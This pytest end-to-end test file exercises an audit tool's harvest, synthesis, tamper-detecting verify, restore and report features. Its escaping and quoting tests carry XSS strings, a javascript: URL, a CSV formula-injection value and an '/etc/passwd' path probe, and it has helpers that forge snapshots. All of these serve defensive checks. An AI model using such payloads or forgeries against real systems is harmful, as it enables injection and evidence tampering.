"""Audits you can check, replay and read (issue 14), end to end: a real harvest of the local site (real
Chromium, real LanceDB, the real model), synthesize, clean; then verify (and each kind of tampering caught),
restore -> synthesize (the recorded blocks again), the HTML report in real Chromium (0 requests), the CSV
read back, ls, conflicts between sources,. Charter init and the pure units of the conflict logic
are in tests/unit/test_audit_rules.py."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from orchestrator.cli import cli
from tests.sites.pages import page, start_site

FERRY = "The crossing takes 45 minutes and a return ticket costs €12 for adults."
FERRY_EDITED = "The crossing takes 55 minutes and a return ticket costs €12 for adults."


def run(*args: Any) -> Any:
    return CliRunner().invoke(cli, [str(a) for a in args])


def _ferry_pages(site: Any) -> None:
    site.write("ferry.html", page(
        "Island ferry",
        "Boats leave the south quay every two hours. " + FERRY,
        "Bicycles travel free of charge, and dogs must stay on a lead on the car deck during the crossing.",
    ))
    site.write("ferry-guide.html", page(
        "Visitors' guide to the island",
        "Most visitors come for the bird colonies on the cliffs and the lighthouse walk. " + FERRY,
        "The island shop sells maps of the coastal path and closes early on Sundays.",
    ))
    site.write("ferry-notice.html", page(
        "Notice board",
        "Notices for the harbour community, collected by the harbour office every week. " + FERRY_EDITED,
        "The harbour office asks owners to move small boats away from the slipway before the winter storms.",
    ))
    index = site.root / "index.html"
    html = index.read_text(encoding="utf-8")
    links = "".join(f'<li><a href="{n}">{n}</a></li>' for n in ("ferry.html", "ferry-guide.html", "ferry-notice.html"))
    index.write_text(html.replace("<nav><ul>", "<nav><ul>" + links, 1), encoding="utf-8")


def _charter(tmp: Path, site: Any) -> Path:
    data = {
        "id": "audit_site",
        "title": "Harbour audit",
        "goal": "What does the harbour site say about its lighthouse, tides and ferry?",
        "allowed_domains": ["127.0.0.1"],
        "seeds": [site.url("index.html")],
        "acceptance": [
            "The year the lighthouse lamp was converted to electricity is cited",
            "The height of spring tides and the price of bitcoin are both cited",
            "The price of bitcoin in euros is quoted",
            "A question the site does not answer is reported as a Gap",
        ],
        "outputs": {
            "doc": "out/audit.md",
            "sections": [
                {"title": "Lighthouse lamp", "label": "Lamp",
                 "question": "When was the lighthouse lamp converted to electricity?"},
                {"title": "Tides", "question": "How high do spring tides reach in the harbour?"},
                {"title": "Ferry crossing", "label": "Ferry",
                 "question": "How long does the crossing take, and what does a return ticket cost?"},
                {"title": "Cryptocurrency", "label": "Crypto",
                 "question": "What is the current price of bitcoin in euros?"},
            ],
        },
        "harvest": {"max_pages": 20, "max_depth": 1, "concurrency": 2, "timeout_s": 10},
        "retrieval": {"k": 3},
        "memory": {"use_concept_index": True},  # the report's concept map and the snapshot's concept records
    }
    path = tmp / "charter.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def audit(tmp_path_factory: pytest.TempPathFactory, embedder: Any) -> Any:
    """One harvest -> synthesize -> clean of the local site (with the ferry pages) for the whole module."""
    tmp = tmp_path_factory.mktemp("audit")
    home = tmp / "brt_home"
    home.mkdir()
    site = start_site(tmp / "site")
    _ferry_pages(site)
    mp = pytest.MonkeyPatch()
    mp.setenv("BRT_HOME", str(home))
    try:
        charter = _charter(tmp, site)
        r = run("harvest", charter)
        assert r.exit_code == 0, r.output
        r = run("synthesize", charter, "--json")
        assert r.exit_code == 0, r.output
        synthesis = json.loads(r.stdout)
        snapshot = tmp / "audit.jsonl"
        r = run("clean", charter, "--snapshot", snapshot)
        assert r.exit_code == 0, r.output
        yield type("Audit", (), {"tmp": tmp, "home": home, "charter": charter, "snapshot": snapshot,
                                 "synthesis": synthesis, "site": site})
    finally:
        mp.undo()
        site.stop()


@pytest.fixture
def home(audit: Any, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("BRT_HOME", str(audit.home))
    return audit.home


def read_records(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def write_records(records: list[dict[str, Any]], dest: Path, *, fix_manifest: bool = True) -> Path:
    """Write records as a snapshot; with ``fix_manifest`` the sha256 and counts are recomputed, as a careful
    forger would."""
    body = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records[1:]).encode("utf-8")
    manifest = dict(records[0])
    if fix_manifest:
        counts: dict[str, int] = {}
        for r in records[1:]:
            counts[r["type"]] = counts.get(r["type"], 0) + 1
        manifest["counts"] = counts
        manifest["sha256"] = hashlib.sha256(body).hexdigest()
    dest.write_bytes((json.dumps(manifest) + "\n").encode("utf-8") + body)
    return dest


def tampered(audit: Any, tmp_path: Path, mutate: Callable[[list[dict[str, Any]]], None], *,
             fix_manifest: bool = True) -> Path:
    records = read_records(audit.snapshot)
    mutate(records)
    dest = write_records(records, tmp_path / "tampered.jsonl", fix_manifest=fix_manifest)
    shutil.copyfile(audit.snapshot.with_suffix(".har"), dest.with_suffix(".har"))
    return dest


# -- the snapshot and verify ---------------------------------------------------------------------------------


def test_snapshot_is_self_contained(audit: Any) -> None:
    records = read_records(audit.snapshot)
    manifest = records[0]
    kinds = {r["type"] for r in records[1:]}
    assert {"charter", "synthesis", "concept_graph", "concept_pointer", "page", "chunk", "harvest_event"} <= kinds
    assert manifest["counts"]["charter"] == 1 and manifest["counts"]["synthesis"] == 1
    charter = next(r for r in records if r["type"] == "charter")
    assert charter["text"] == audit.charter.read_text(encoding="utf-8")
    assert charter["sha256"] == hashlib.sha256(charter["text"].encode("utf-8")).hexdigest()
    assert set(charter["roles"]) == {"harvest", "synthesize"}
    synthesis = next(r for r in records if r["type"] == "synthesis")
    assert synthesis["charter_sha256"] == charter["sha256"]
    assert [s["title"] for s in synthesis["sections"]] == [s["title"] for s in audit.synthesis["sections"]]
    chunks = {r["id"] for r in records if r["type"] == "chunk"}
    blocks = [b for s in synthesis["sections"] for b in s["blocks"]]
    assert blocks and all(b["chunk_id"] in chunks for b in blocks)
    assert [g for s in synthesis["sections"] for g in s["gaps"]]


def test_verify_passes_with_a_one_line_verdict(audit: Any, home: Path) -> None:
    r = run("verify", audit.snapshot)
    assert r.exit_code == 0, r.output
    assert r.stdout.count("\n") == 1 and r.stdout.startswith("OK audit.jsonl:"), r.stdout
    doc = json.loads(run("verify", audit.snapshot, "--json").stdout)
    assert doc["ok"] and doc["failures"] == []
    # every page a block cites is checked: the block's own and each of its also_at sources
    n_sources = sum(1 + len(b.get("also_at") or []) for s in audit.synthesis["sections"] for b in s["blocks"])
    assert doc["checked"]["quotes"] == n_sources
    assert doc["checked"]["har_pages"] == doc["checked"]["pages"] == doc["checked"]["fingerprints"] > 5


def _first_block(records: list[dict[str, Any]]) -> dict[str, Any]:
    syn = next(r for r in records if r["type"] == "synthesis")
    return next(b for s in syn["sections"] for b in s["blocks"])


def _edit_quote(records: list[dict[str, Any]]) -> None:
    block = _first_block(records)
    block["quote"] = block["quote"].replace("1953", "1935") if "1953" in block["quote"] else block["quote"] + " not"


def _forge_also_at(records: list[dict[str, Any]]) -> None:
    block = _first_block(records)
    forged = {k: block[k] for k in ("quote", "url", "last_updated", "score", "chunk_id")}
    forged["quote"] = "A sentence that no stored page holds, cited as another source."
    block["also_at"] = [*(block.get("also_at") or []), forged]


def _edit_chunk(records: list[dict[str, Any]]) -> None:
    cid = _first_block(records)["chunk_id"]
    chunk = next(r for r in records if r["type"] == "chunk" and r["id"] == cid)
    chunk["text"] = chunk["text"].replace("1953", "1935").replace("lighthouse", "light house")


def _edit_count(records: list[dict[str, Any]]) -> None:
    records[0]["counts"]["chunk"] += 1


def _edit_allowlist(records: list[dict[str, Any]]) -> None:
    charter = next(r for r in records if r["type"] == "charter")
    charter["text"] = charter["text"].replace("127.0.0.1", "example.org")  # allowlist and seeds
    charter["sha256"] = hashlib.sha256(charter["text"].encode("utf-8")).hexdigest()
    next(r for r in records if r["type"] == "synthesis")["charter_sha256"] = charter["sha256"]


def _edit_url(records: list[dict[str, Any]]) -> None:
    block = _first_block(records)
    # a page that does not hold the cited chunk (a page with the same text holds it too: also_seen_at)
    other = next(r for r in records if r["type"] == "page" and block["chunk_id"] not in r["chunk_ids"])
    block["url"] = other["final_url"]


@pytest.mark.parametrize(
    ("mutate", "fix", "check", "words"),
    [
        (_edit_quote, True, "evidence", "not a verbatim span"),
        (_edit_chunk, True, "chunks", "not the hash of its text"),
        (_edit_count, False, "manifest", "the manifest counts"),
        (_edit_quote, False, "manifest", "sha256"),
        (_edit_allowlist, True, "evidence", "not on the charter's allowlist"),
        (_edit_url, True, "evidence", "does not belong to"),
        (_forge_also_at, True, "evidence", "not a verbatim span"),
    ],
    ids=["quote", "chunk", "manifest-count", "unsealed-edit", "allowlist", "cited-url", "also-at-quote"],
)
def test_verify_catches_tampering(audit: Any, home: Path, tmp_path: Path, mutate: Any, fix: bool, check: str,
                                  words: str) -> None:
    bad = tampered(audit, tmp_path, mutate, fix_manifest=fix)
    r = run("verify", bad)
    assert r.exit_code == 1, r.output
    assert r.stdout.startswith("FAILED tampered.jsonl"), r.stdout
    doc = json.loads(run("verify", bad, "--json").stdout)
    assert any(f["check"] == check and words in f["message"] for f in doc["failures"]), doc["failures"]


def test_verify_catches_a_har_body_that_does_not_match_its_fingerprint(audit: Any, home: Path,
                                                                      tmp_path: Path) -> None:
    snap = tmp_path / "s.jsonl"
    shutil.copyfile(audit.snapshot, snap)
    har = json.loads(audit.snapshot.with_suffix(".har").read_text(encoding="utf-8"))
    lamp = audit.site.url("a.html")
    entry = next(e for e in har["log"]["entries"] if e["request"]["url"] == lamp)
    entry["response"]["content"]["text"] = entry["response"]["content"]["text"].replace("1953", "1935")
    entry["response"]["content"].pop("encoding", None)
    snap.with_suffix(".har").write_text(json.dumps(har), encoding="utf-8")
    doc = json.loads(run("verify", snap, "--json").stdout)
    assert not doc["ok"]
    assert [f for f in doc["failures"] if f["check"] == "har"] == [
        {"check": "har", "message": f"page {lamp}: no response in the HAR hashes to its recorded fingerprint"}
    ]
    snap.with_suffix(".har").unlink()
    doc = json.loads(run("verify", snap, "--json").stdout)
    assert any(f["check"] == "har" and "no HAR" in f["message"] for f in doc["failures"])
    assert run("verify", snap, "--no-har").exit_code == 0


def test_verify_missing_responses_fail_unless_the_har_says_its_recording_was_cut_short(
        audit: Any, home: Path, tmp_path: Path) -> None:
    snap = tmp_path / "s.jsonl"
    shutil.copyfile(audit.snapshot, snap)
    har = json.loads(audit.snapshot.with_suffix(".har").read_text(encoding="utf-8"))
    lamp = audit.site.url("a.html")
    har["log"]["entries"] = [e for e in har["log"]["entries"] if e["request"]["url"] != lamp]
    snap.with_suffix(".har").write_text(json.dumps(har), encoding="utf-8")
    doc = json.loads(run("verify", snap, "--json").stdout)
    assert [f["message"] for f in doc["failures"]] == [f"the HAR holds no response for page {lamp}"]
    har["log"]["comment"] = f"x.har: incomplete: browser crashed at now; pages read in it: {lamp}"
    snap.with_suffix(".har").write_text(json.dumps(har), encoding="utf-8")
    doc = json.loads(run("verify", snap, "--json").stdout)
    assert doc["ok"] and any("incomplete" in w["message"] for w in doc["warnings"])


def test_verify_rejects_a_file_that_is_not_a_snapshot(tmp_path: Path, home: Path) -> None:
    junk = tmp_path / "junk.jsonl"
    junk.write_text("hello\n")
    r = run("verify", junk)
    assert r.exit_code == 1 and "not a brt snapshot" in r.output


# -- restore ---------------------------------------------------------------------------------------------------


def _blocks(doc: dict[str, Any]) -> list[Any]:
    return [
        (s["title"],
         [(b["n"], b["quote"], b["url"], b["chunk_id"], b["last_updated"], b["score"]) for b in s["blocks"]],
         len(s["gaps"]))
        for s in doc["sections"]
    ]


def test_restore_then_synthesize_gives_the_recorded_blocks(audit: Any, home: Path, tmp_path: Path) -> None:
    r = run("restore", audit.snapshot, "--id", "audit_again", "--json")
    assert r.exit_code == 0, r.output
    result = json.loads(r.stdout)
    assert result["charter_id"] == "audit_again" and result["reembedded"] == 0 and result["check_ok"]
    assert result["concept_index"] == "restored" and result["synthesis"]
    charter = Path(result["charter_path"])
    assert yaml.safe_load(charter.read_text(encoding="utf-8"))["id"] == "audit_again"
    assert run("status", charter, "--check").exit_code == 0
    # the recorded synthesis is there at once (report), and a new one gives the same blocks
    assert run("report", charter, "--format", "md").exit_code == 0
    r = run("synthesize", charter, "--json", "--out", tmp_path / "again.md")
    assert r.exit_code == 0, r.output
    again = json.loads(r.stdout)
    assert _blocks(again) == _blocks(audit.synthesis)
    assert again["acceptance"] == audit.synthesis["acceptance"]
    assert again["conflicts"] == audit.synthesis["conflicts"]
    hits = json.loads(run("search", charter, "lamp converted to electricity", "--json").stdout)["hits"]
    assert "1953" in hits[0]["text"]
    # a second restore under the same id is refused; the store is untouched
    r = run("restore", audit.snapshot, "--id", "audit_again")
    assert r.exit_code == 1 and "exists" in r.output


def test_restore_without_vectors_re_embeds(audit: Any, home: Path, tmp_path: Path) -> None:
    records = read_records(audit.snapshot)
    for rec in records:
        rec.pop("embedding", None)
        if rec["type"] == "concept_graph":
            rec["vectors"] = False
            for node in rec["graph"]["nodes"]:
                for key in ("label_vec", "own_vec", "centroid"):
                    node.pop(key, None)
    records[0]["include_vectors"] = False
    snap = write_records(records, tmp_path / "novec.jsonl")
    assert run("verify", snap, "--no-har").exit_code == 0
    # no HAR beside it: restore refuses a snapshot nothing proves, and takes the genuine one named with --har
    r = run("restore", snap, "--id", "audit_novec", "--charter", tmp_path / "novec.yaml")
    assert r.exit_code == 1 and "no HAR" in r.output, r.output
    r = run("restore", snap, "--id", "audit_novec", "--json", "--charter", tmp_path / "novec.yaml", "--har",
            audit.snapshot.with_suffix(".har"))
    assert r.exit_code == 0, r.output
    result = json.loads(r.stdout)
    assert result["reembedded"] == result["chunks"] > 0 and result["concept_index"] == "rebuilt"
    assert result["check_ok"]
    r = run("synthesize", tmp_path / "novec.yaml", "--json")
    assert r.exit_code == 0, r.output
    lamp = json.loads(r.stdout)["sections"][0]
    assert any("1953" in b["quote"] for b in lamp["blocks"])


# -- conflicts and acceptance on the real synthesis -----------------------------------------------------------------


def test_conflict_between_sources_is_flagged_and_unedited_pages_agree(audit: Any) -> None:
    syn = audit.synthesis
    ferry = next(s for s in syn["sections"] if s["label"] == "Ferry")
    # every ferry page is cited: as a block, or as another source of a block's facts ("also at")
    urls = {u.rsplit("/", 1)[-1] for b in ferry["blocks"] for u in [b["url"], *(a["url"] for a in b["also_at"])]}
    assert {"ferry.html", "ferry-guide.html", "ferry-notice.html"} <= urls, ferry["blocks"]
    conflicts = [c for c in syn["conflicts"] if c["section"] == "Ferry crossing"]
    assert conflicts, syn["conflicts"]
    for c in conflicts:  # every conflict involves the edited page, and states both values, quotes and dates
        pair = {c["a"]["url"].rsplit("/", 1)[-1], c["b"]["url"].rsplit("/", 1)[-1]}
        assert "ferry-notice.html" in pair and len(pair) == 2
        assert {c["a"]["value"], c["b"]["value"]} == {"45 minutes", "55 minutes"}
        assert FERRY_EDITED in (c["a"]["quote"], c["b"]["quote"]) or any(
            "55 minutes" in c[k]["quote"] for k in "ab")
        assert "last_updated" in c["a"] and "last_updated" in c["b"]
    agree = [a for a in syn["agreements"] if a["section"] == "Ferry crossing"]
    assert any(a["value"] == "45 minutes" and a["sources"] == 2 for a in agree), agree
    assert any(a["value"].replace(" ", "") == "€12" and a["sources"] == 3 for a in agree), agree
    for c in syn["conflicts"]:  # in any section: a conflict always involves the edited page
        assert "ferry-notice.html" in (c["a"]["url"] + c["b"]["url"])
    md = (audit.charter.parent / "out" / "audit.md").read_text(encoding="utf-8")
    assert "[Ferry Conflict] " in md and "[Ferry Agreement] " in md


def test_acceptance_verdicts(audit: Any) -> None:
    verdicts = {v["criterion"]: v for v in audit.synthesis["acceptance"]}
    assert [v["verdict"] for v in verdicts.values()] == ["covered", "partial", "not covered", "covered"], verdicts
    partial = verdicts["The height of spring tides and the price of bitcoin are both cited"]
    assert partial["reason"]
    gap = verdicts["A question the site does not answer is reported as a Gap"]
    assert gap["kind"] == "gap" and gap["gap_sections"] == ["Cryptocurrency"]
    md = (audit.charter.parent / "out" / "audit.md").read_text(encoding="utf-8")
    section = md.split("## Acceptance criteria", 1)[1]
    assert section.count("- **covered**: ") == 2 and "- **not covered**: The price of bitcoin" in section


# -- reports ------------------------------------------------------------------------------------------------------


def test_html_report_renders_offline_in_chromium(audit: Any, home: Path, tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    from orchestrator.errors import BrowserNotFound
    from orchestrator.harvest.launch import LAUNCH_ARGS, find_browser

    out = tmp_path / "report.html"
    r = run("report", audit.snapshot, "--format", "html", "--out", out)
    assert r.exit_code == 0, r.output
    html = out.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "http-equiv=\"Content-Security-Policy\"" in html
    try:
        executable = find_browser()
    except BrowserNotFound as exc:
        pytest.skip(str(exc))
    requests: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=executable, args=LAUNCH_ARGS, headless=True)
        try:
            context = browser.new_context(viewport={"width": 1200, "height": 900})
            context.on("request", lambda req: requests.append(req.url))
            tab = context.new_page()
            tab.goto(out.as_uri(), wait_until="load")
            tab.wait_for_timeout(300)
            text = tab.inner_text("body")
            for s in audit.synthesis["sections"]:
                assert tab.locator("h2", has_text=s["title"]).count() == 1
                for b in s["blocks"]:
                    block = f"#s{audit.synthesis['sections'].index(s) + 1}-b{b['n']}"
                    assert tab.locator(f"{block} p.cite:not(.also) a").get_attribute("href") == b["url"]
                    # every page the block cites is linked, the "also at" ones too
                    assert tab.locator(f"{block} p.also a").count() == len(b.get("also_at") or [])
            assert "No evidence met the threshold" in text
            assert tab.locator("#acceptance tbody tr").count() == len(audit.synthesis["acceptance"])
            assert tab.locator("#conflicts .conflict-card").count() == len(audit.synthesis["conflicts"])
            assert tab.locator("#sources tbody tr").count() >= 8
            assert tab.locator("#concepts svg.concept-map g.node").count() > 3
            assert tab.locator("#harvest").inner_text().count("stored") >= 1
            tab.screenshot(path=str(tmp_path / "report.png"), full_page=True)
        finally:
            browser.close()
    assert requests == [out.as_uri()], requests  # the document itself, nothing else
    assert (tmp_path / "report.png").stat().st_size > 10_000


def test_html_report_escapes_page_text(audit: Any, home: Path, tmp_path: Path) -> None:
    from orchestrator.audit.bundle import load_bundle
    from orchestrator.audit.report_html import render_html

    bundle = load_bundle(audit.snapshot)
    evil = '<script>alert(1)</script><img src=x onerror=alert(2)> "quoted" & </blockquote>'
    block = bundle.synthesis.sections[0].blocks[0]
    block.quote = evil
    block.url = "javascript:alert(3)"
    bundle.pages[0]["title"] = evil
    bundle.concepts[1]["label"] = evil
    html = render_html(bundle)
    assert "<script" not in html and "<img" not in html and 'href="javascript:' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_csv_report_round_trips(audit: Any, home: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence.csv"
    r = run("report", audit.snapshot, "--format", "csv", "--out", out)
    assert r.exit_code == 0, r.output
    raw = out.read_bytes()
    assert raw.count(b"\r\n") >= 2 and b"\n" not in raw.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert list(rows[0]) == ["section", "n", "quote", "url", "title", "last_updated", "score", "chunk_id",
                             "conflict", "origin"]
    assert {r["origin"] for r in rows} == {"harvest"}  # every page of this audit was harvested
    blocks = [(s, b) for s in audit.synthesis["sections"] for b in s["blocks"]]
    assert len(rows) == len(blocks)
    for row, (s, b) in zip(rows, blocks, strict=True):
        assert (row["section"], int(row["n"]), row["quote"], row["url"], row["chunk_id"]) == (
            s["title"], b["n"], b["quote"], b["url"], b["chunk_id"])
        assert abs(float(row["score"]) - b["score"]) < 1e-4
        assert row["last_updated"] == (b["last_updated"] or "")
    flagged = [r for r in rows if r["conflict"]]
    assert flagged and all(r["url"].rsplit("/", 1)[-1] in ("ferry.html", "ferry-guide.html", "ferry-notice.html")
                           for r in flagged)
    assert all("55 minutes" in r["conflict"] for r in flagged)
    assert all(r["title"] for r in rows)


def test_csv_quoting_of_hostile_text(audit: Any) -> None:
    from orchestrator.audit.bundle import load_bundle
    from orchestrator.audit.report_csv import render_csv

    bundle = load_bundle(audit.snapshot)
    nasty = 'He said, "stop"\r\nthen left; =HYPERLINK("http://x")'
    bundle.synthesis.sections[0].blocks[0].quote = nasty
    rows = list(csv.reader(io.StringIO(render_csv(bundle), newline="")))
    assert rows[1][2] == nasty
    bundle.synthesis.sections[0].blocks[0].quote = "=1+1"
    rows = list(csv.reader(io.StringIO(render_csv(bundle), newline="")))
    assert rows[1][2] == "'=1+1"


def test_markdown_report(audit: Any, home: Path) -> None:
    r = run("report", audit.snapshot, "--format", "md")
    assert r.exit_code == 0, r.output
    assert "## Acceptance criteria" in r.stdout and "## Sources" in r.stdout and "## Harvest" in r.stdout
    assert "[Ferry Conflict]" in r.stdout


def test_report_of_a_charter_without_synthesis_is_a_clear_error(audit: Any, home: Path, tmp_path: Path) -> None:
    r = run("report", audit.charter)  # cleaned: no store
    assert r.exit_code == 1 and "brt harvest" in r.output
    restored = json.loads(run("restore", audit.snapshot, "--id", "audit_nosyn", "--json",
                              "--charter", tmp_path / "nosyn.yaml").stdout)
    from orchestrator.config import open_memory
    from orchestrator.service import load

    (open_memory(load(restored["charter_path"]), create=False).path / "synthesis.json").unlink()
    r = run("report", restored["charter_path"])
    assert r.exit_code == 1 and "no synthesis yet" in r.output and "run brt synthesize" in r.output


# -- ls and charter init ----------------------------------------------------------------------------------------


def test_ls_lists_stores_and_snapshots(audit: Any, home: Path, tmp_path: Path) -> None:
    snaps = home / "snapshots"
    snaps.mkdir(exist_ok=True)
    shutil.copyfile(audit.snapshot, snaps / "audit_site-20990101T000000Z.jsonl")
    r = run("restore", audit.snapshot, "--id", "audit_ls", "--charter", tmp_path / "ls.yaml")
    assert r.exit_code == 0, r.output
    doc = json.loads(run("ls", "--json").stdout)
    store = next(s for s in doc["stores"] if s["charter_id"] == "audit_ls")
    manifest = read_records(audit.snapshot)[0]
    assert store["pages"] == manifest["counts"]["page"] and store["chunks"] == manifest["counts"]["chunk"]
    assert store["last_harvest"] and store["last_synthesis"] and store["disk_bytes"] > 0
    snap = next(s for s in doc["snapshots"] if s["id"] == "audit_site-20990101T000000Z")
    assert snap["charter_id"] == "audit_site" and snap["pages"] == manifest["counts"]["page"]
    assert snap["last_harvest"] == store["last_harvest"] and snap["size"] == audit.snapshot.stat().st_size
    assert not snap["har"]
    text = run("ls").stdout
    assert "audit_ls" in text and "audit_site-20990101T000000Z" in text


def test_mcp_audit_tools(audit: Any, home: Path, tmp_path: Path) -> None:
    pytest.importorskip("mcp")
    import anyio
    from mcp.client.session import ClientSession
    from mcp.client.stdio import stdio_client

    from tests.e2e.test_mcp import doc_of, error_text, server_params

    async def flow() -> None:
        with open(tmp_path / "server.log", "w") as errlog:
            async with stdio_client(server_params(home), errlog=errlog) as (read, write):
                async with ClientSession(read, write, read_timeout_seconds=120) as s:
                    await s.initialize()
                    tools = {t.name: t for t in (await s.list_tools()).tools}
                    assert {"verify", "restore", "report", "list_charters", "charter_init"} <= set(tools)
                    assert tools["verify"].annotations.read_only_hint
                    doc = doc_of(await s.call_tool("verify", {"snapshot_path": str(audit.snapshot)}))
                    assert doc["ok"] and doc["verdict"].startswith("OK audit.jsonl")
                    bad = tampered(audit, tmp_path, _edit_chunk)
                    doc = doc_of(await s.call_tool("verify", {"snapshot_path": str(bad)}))
                    assert not doc["ok"] and any(f["check"] == "chunks" for f in doc["failures"])
                    assert "jsonl" in error_text(await s.call_tool("verify", {"snapshot_path": "/etc/passwd"}))
                    doc = doc_of(await s.call_tool("list_charters", {}))
                    assert doc["brt_home"] == str(home) and isinstance(doc["stores"], list)
                    doc = doc_of(await s.call_tool("charter_init", {
                        "question": "How long does the ferry crossing take?",
                        "urls": ["https://ferries.example.com/timetable"], "charter_id": "ferry_mcp"}))
                    written = Path(doc["path"])
                    assert written == home / "charters" / "ferry_mcp.yaml" and written.read_text() == doc["text"]
                    assert "exists" in error_text(await s.call_tool("charter_init", {
                        "question": "q", "urls": ["https://example.com/"], "charter_id": "ferry_mcp"}))
                    assert "urls.0" in error_text(await s.call_tool("charter_init", {
                        "question": "q", "urls": ["ftp://example.com/"], "write": False}))
                    # restore, then a report of the restored charter and of the snapshot, as files under BRT_HOME
                    doc = doc_of(await s.call_tool("restore", {"snapshot_path": str(audit.snapshot),
                                                               "charter_id": "audit_mcp"}))
                    assert doc["charter_id"] == "audit_mcp" and doc["check_ok"] and doc["chunks"] > 0
                    charter = Path(doc["charter_path"])
                    assert charter == home / "charters" / "audit_mcp.yaml"
                    assert "exists" in error_text(await s.call_tool("restore", {
                        "snapshot_path": str(audit.snapshot), "charter_id": "audit_mcp"}))
                    assert "fails verification" in error_text(await s.call_tool("restore", {
                        "snapshot_path": str(bad), "charter_id": "audit_bad"}))
                    assert not (home / "memory" / "audit_bad").exists()
                    recorded = sum(len(sec["blocks"]) for sec in audit.synthesis["sections"])
                    doc = doc_of(await s.call_tool("report", {"source_path": str(charter), "format": "md"}))
                    assert doc["path"] == str(home / "reports" / "audit_mcp.md") and doc["blocks"] == recorded
                    assert "text" not in doc and Path(doc["path"]).read_text().startswith("#")
                    doc = doc_of(await s.call_tool("report", {"source_path": str(audit.snapshot)}))
                    assert doc["path"] == str(home / "reports" / f"{audit.snapshot.stem}.html")
                    assert doc["origin"] == "snapshot" and doc["blocks"] == recorded and doc["bytes"] > 0
                    assert "charter file" in error_text(await s.call_tool("report", {"source_path": "/etc/passwd"}))

    anyio.run(flow)
    from orchestrator.charter import load_charter

    assert load_charter(home / "charters" / "ferry_mcp.yaml").id == "ferry_mcp"


def _doc_outside(records: list[dict[str, Any]]) -> None:
    """The recorded charter as a checkout's charters keep theirs: outputs.doc in a folder beside the charter's."""
    for rec in records:
        if rec["type"] != "charter":
            continue
        old = rec["sha256"]
        rec["text"] = rec["text"].replace("doc: out/audit.md", "doc: ../elsewhere/audit.md")
        assert "../elsewhere/audit.md" in rec["text"]
        rec["sha256"] = hashlib.sha256(rec["text"].encode("utf-8")).hexdigest()
        for other in records:
            if other["type"] == "synthesis" and other.get("charter_sha256") == old:
                other["charter_sha256"] = rec["sha256"]


def test_mcp_restore_then_synthesize(audit: Any, home: Path, tmp_path: Path) -> None:
    """Over MCP, restore then synthesize works even when the recorded outputs.doc would leave the folder the
    restored charter is written to; errors name the MCP arguments, in brt's own words outside the quotes."""
    pytest.importorskip("mcp")
    import anyio
    from mcp.client.session import ClientSession
    from mcp.client.stdio import stdio_client

    from tests.e2e.test_mcp import doc_of, error_text, server_params

    snapshot = tampered(audit, tmp_path, _doc_outside)
    assert run("verify", snapshot, "--no-har").exit_code == 0

    async def flow() -> None:
        with open(tmp_path / "server.log", "w") as errlog:
            async with stdio_client(server_params(home), errlog=errlog) as (read, write):
                async with ClientSession(read, write, read_timeout_seconds=180) as s:
                    await s.initialize()
                    restored = doc_of(await s.call_tool("restore", {"snapshot_path": str(snapshot),
                                                                    "charter_id": "audit_doc"}))
                    charter = Path(restored["charter_path"])
                    assert charter == home / "charters" / "audit_doc.yaml"
                    assert yaml.safe_load(charter.read_text(encoding="utf-8"))["outputs"]["doc"] == "out/audit.md"
                    valid = doc_of(await s.call_tool("charter_validate", {"path": str(charter)}))
                    assert valid["valid"] and valid["charter_id"] == "audit_doc"
                    done = doc_of(await s.call_tool("synthesize", {"charter_path": str(charter)}))
                    assert done["doc_path"] == str(home / "charters" / "out" / "audit.md")
                    assert _blocks(done) and done["answered"] == sum(1 for sec in audit.synthesis["sections"]
                                                                     if sec["blocks"])
                    again = error_text(await s.call_tool("restore", {"snapshot_path": str(snapshot),
                                                                      "charter_id": "audit_doc"}))
                    assert "exists" in again and "charter_id" in again and "--id" not in again
                    assert "QUOTED PAGE CONTENT" not in again
                    # a charter whose outputs.doc leaves its folder: the same refusal from validate and synthesize
                    outside = tmp_path / "charters" / "outside.yaml"
                    outside.parent.mkdir()
                    text = charter.read_text(encoding="utf-8").replace("doc: out/audit.md", "doc: ../audit.md")
                    outside.write_text(text, encoding="utf-8")
                    refused = error_text(await s.call_tool("charter_validate", {"path": str(outside)}))
                    same = error_text(await s.call_tool("synthesize", {"charter_path": str(outside)}))
                    assert refused.split("failed: ", 1)[1] == same.split("failed: ", 1)[1]
                    assert "outputs.doc" in refused and "out path" in refused and "--allow" not in refused
                    assert "QUOTED PAGE CONTENT" not in refused

    anyio.run(flow)
    md = (home / "charters" / "out" / "audit.md").read_text(encoding="utf-8")
    assert "[Lamp Evidence #1]" in md


def test_replaying_the_snapshot_har_gives_the_recorded_blocks(audit: Any, home: Path, tmp_path: Path) -> None:
    """The other way to re-run an audit: a fresh harvest served from the snapshot's HAR (no network)."""
    data = yaml.safe_load(audit.charter.read_text(encoding="utf-8"))
    data["id"] = "audit_replay"
    data["outputs"]["doc"] = "replay.md"  # beside the charter (issue 11: outputs.doc stays in its folder)
    charter = tmp_path / "replay.yaml"
    charter.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    audit.site.stop()  # nothing is served any more: every response comes from the HAR
    r = run("harvest", charter, "--replay", audit.snapshot.with_suffix(".har"))
    assert r.exit_code == 0, r.output
    r = run("synthesize", charter, "--json")
    assert r.exit_code == 0, r.output
    again = json.loads(r.stdout)
    # a chunk two pages share (a.html, a-copy.html) is stored under the page whose write lands first, so the replay
    # may cite the other copy: the same chunk, quote, date and score, at a page the snapshot records holding it
    holders = {r["id"]: {r["url"], *r["also_seen_at"]} for r in read_records(audit.snapshot) if r["type"] == "chunk"}
    for doc in (again, audit.synthesis):
        assert all(b["url"] in holders[b["chunk_id"]] for s in doc["sections"] for b in s["blocks"])

